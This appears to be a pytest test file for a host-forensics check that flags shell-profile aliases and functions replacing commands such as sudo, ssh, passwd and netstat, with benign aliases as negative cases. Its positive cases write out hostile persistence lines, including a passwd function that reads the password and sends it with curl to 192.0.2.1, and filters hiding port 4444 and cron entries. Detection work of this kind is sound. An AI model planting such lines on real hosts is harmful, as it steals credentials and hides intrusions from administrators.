"""Commands replaced by aliases and functions."""

import pytest

from detect.running import claims, examples
from hemostat.detect.check import Check, Example
from hemostat.detect.checks import shell_profile_wrapped as module
from hemostat.model.evidence import Source
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Mechanism, StartupLine


@pytest.mark.parametrize(("check", "example"), examples(module))
def test_each_example_does_what_it_says(check: Check, example: Example) -> None:
    assert bool(claims(check, *example.records, context=example.context)) == example.fires


def profile(*commands: str) -> list[StartupLine]:
    return [
        StartupLine(
            source=Source(path=HostPath("/root/.bashrc"), line=number),
            mechanism=Mechanism.SHELL_PROFILE,
            command=command,
        )
        for number, command in enumerate(commands, 1)
    ]


@pytest.mark.parametrize(
    ("commands", "level"),
    [
        (["alias su='/dev/shm/su'"], Level.HIGH),
        (["alias sudo=/var/tmp/.a/sudo"], Level.HIGH),
        (["true; alias ssh='ssh -o ProxyCommand=\"tee -a /var/log/.k\"'"], Level.HIGH),
        (["alias sudo='tee -a ~/log | sudo'"], Level.MEDIUM),
        (["function sudo {", "read -s p", "command sudo $@", "}"], Level.HIGH),
        (['function passwd() { read -rs a; curl -d "$a" http://192.0.2.1; }'], Level.HIGH),
        (['netstat() { command netstat "$@" | grep -v 4444; }'], Level.MEDIUM),
        (["function crontab {", "/usr/bin/crontab \"$@\" | sed '/evil/d'", "}"], Level.MEDIUM),
    ],
)
def test_stealing_and_hiding_are_found(commands: list[str], level: Level) -> None:
    (claim,) = claims(module.command_replaced, *profile(*commands))
    assert claim.level is level


@pytest.mark.parametrize(
    "commands",
    [
        ["alias sudo='sudo -E '", "alias su='su -'", "alias ssh='kitty +kitten ssh'"],
        ["alias ll='ls -l'", "alias ls='ls -I NTUSER.DAT*'", "alias df='df -h'"],
        ["alias psg='ps aux | grep -v grep | grep'", "alias ps='ps auxf'"],
        ["ssh() {", "ssh-add -l >/dev/null || ssh-add", 'command ssh "$@"', "}"],
        ["top() { htop; }", 'cat() { bat --plain "$@"; }'],
        ["history() {", 'builtin history "$@"', "}", "read -s x", "echo y > /root/z"],
        ["alias passwd=yppasswd", "alias mysql='mysql --auto-rehash'"],
        ["nvm() { command nvm; }", "conda() { \\local cmd; }"],
    ],
)
def test_comfort_is_quiet(commands: list[str]) -> None:
    assert not claims(module.command_replaced, *profile(*commands))


def test_a_megabyte_on_one_line_is_judged_in_bounded_time() -> None:
    lines = profile("sudo() { " + "read -a " * 150_000, "alias ps='" + "| grep -" * 130_000)
    assert len(claims(module.command_replaced, *lines)) <= 2
